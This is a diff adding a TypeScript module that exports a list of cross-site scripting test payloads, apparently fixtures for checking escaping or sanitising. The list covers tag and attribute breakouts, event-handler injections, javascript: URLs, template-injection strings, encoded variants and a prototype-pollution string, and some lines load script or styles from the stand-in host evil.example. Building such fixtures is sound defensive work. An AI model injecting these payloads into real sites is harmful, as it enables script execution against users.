@@ -1,0 +1,46 @@
+/** Texts that would run in a page that took one of them for HTML, an address, a template or a script. */
+export const PAYLOADS: readonly string[] = [
+  ...['script', 'ScRiPt', 'script/x', 'script\tsrc="data:,alert(1)"', 'script src=//evil.example'].map(
+    (tag) => `<${tag}>alert(1)</script>`,
+  ),
+  ...[
+    '"',
+    "'",
+    '`',
+    '-->',
+    ']]>',
+    '*/',
+    '\\"',
+    '</title>',
+    '</textarea>',
+    '</style>',
+    '</noscript>',
+    '</template>',
+  ].map((end) => `${end}><img src=x onerror=alert(1)>`),
+  ...['onload', 'onerror', 'onbegin'].map((event) => `<svg ${event}=alert(1)><animate ${event}=alert(1)>`),
+  ...['onfocus', 'onpointerenter', 'onanimationstart', 'oncontentvisibilityautostatechange'].map(
+    (event) => `<input autofocus ${event}=alert(1) style="animation:x;content-visibility:auto">`,
+  ),
+  ...['body onload', 'body onpageshow', 'details open ontoggle', 'video autoplay onloadstart', 'marquee onstart'].map(
+    (tag) => `<${tag}=alert(1) src=x>`,
+  ),
+  ...['', ' ', '\t', 'JaVa', 'data:text/html,<script>', 'vbscript:'].map((head) => `${head}javascript:alert(1)`),
+  ...['href', 'src', 'srcdoc', 'formaction', 'xlink:href', 'action'].map(
+    (name) => `"><iframe ${name}="javascript:alert(1)"></iframe>`,
+  ),
+  ...['{{', '${', '#{', '<%=', '[[', '{%'].map((open) => `${open}constructor.constructor('alert(1)')()}}`),
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<form id=x tabindex=0 onfocus=alert(1)><button form=x>',
+  '<object data="data:text/html,<script>alert(1)</script>">',
+  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<link rel=stylesheet href=//evil.example/x.css>',
+  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
+  '<base href=//evil.example/>',
+  '<style>@import "//evil.example/x.css";</style>',
+  '&lt;img src=x onerror=alert(1)&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '\\u003cimg src=x onerror=alert(1)\\u003e',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}',
+];
